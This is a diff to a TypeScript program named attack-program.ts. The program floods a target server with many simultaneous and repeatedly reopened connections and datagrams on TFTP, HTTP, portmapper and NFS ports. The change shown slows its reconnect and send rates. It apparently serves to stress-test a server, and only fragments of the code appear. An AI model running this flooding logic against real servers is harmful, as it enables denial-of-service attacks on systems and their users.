@@ -1,4 +1,4 @@
-// Does to a server what hostile machines do, all at once and without end, from many addresses.
+// Does to a server what hostile machines do, all at once, from many addresses, until it is ended.
 //
 //     node attack-program.ts SERVER ADDRESS…
 
@@ -11,6 +11,7 @@ const [server = '', ...addresses] = process.argv.slice(2)
 const [tftp, http, portMapper, nfs] = [69, 80, 111, 2049]
 /** Connections at once, to each port. */
 const halfOpen = 1000
+const comeBackMs = 1000
 
 let turn = 0
 const nextAddress = () => addresses[turn++ % addresses.length] ?? ''
@@ -45,8 +46,8 @@ function open(port: number, all: readonly (() => Buffer)[]): void {
   socket.on('error', () => {})
   socket.on('connect', () => socket.write(all[turn % all.length]?.() ?? ''))
   socket.on('data', () => {})
-  // Whoever was thrown out comes back.
-  socket.on('close', () => setTimeout(open, 20, port, all))
+  // Whoever was thrown out comes back: some hundred a second.
+  socket.on('close', () => setTimeout(open, comeBackMs, port, all))
 }
 
 for (const [port, all] of Object.entries(requests)) {
@@ -69,7 +70,7 @@ for (let count = 0; count < 200; count++) {
       socket.send(datagrams[turn++ % datagrams.length] ?? '', tftp, server)
       const call = callRecord({}, 100005, 1, (writer) => writer.string('/srv/test'))
       socket.send(call.subarray(4), nfs, server)
-    }, 200)
+    }, 500)
   })
 }
 process.stdout.write('under way\n')
